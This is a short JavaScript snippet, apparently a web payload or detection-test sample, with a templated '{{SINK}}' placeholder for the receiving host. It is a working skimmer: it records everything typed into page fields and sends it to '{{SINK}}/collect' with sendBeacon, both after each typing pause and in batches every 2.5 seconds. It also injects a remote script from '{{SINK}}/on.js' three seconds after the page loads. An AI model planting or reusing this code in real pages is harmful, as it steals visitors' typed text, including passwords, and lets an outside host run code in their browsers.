// What comes late: a script after three seconds, typed text some time after the last key, and what was gathered in turns.
'use strict';
{
  const send = (via, value) => value && navigator.sendBeacon('{{SINK}}/collect?via=' + via, value);
  const add = () => document.head.append(Object.assign(document.createElement('script'), { src: '{{SINK}}/on.js?e=blur' }));
  setTimeout(add, 3000);
  setTimeout(() => {}, 30000);
  let pause = 0;
  const gathered = [];
  document.addEventListener('input', (event) => {
    clearTimeout(pause);
    pause = setTimeout(() => send('paused', event.target.value), 700);
    gathered.push(event.target.value);
  });
  setInterval(() => send('turn', gathered.splice(0).join('|')), 2500);
}
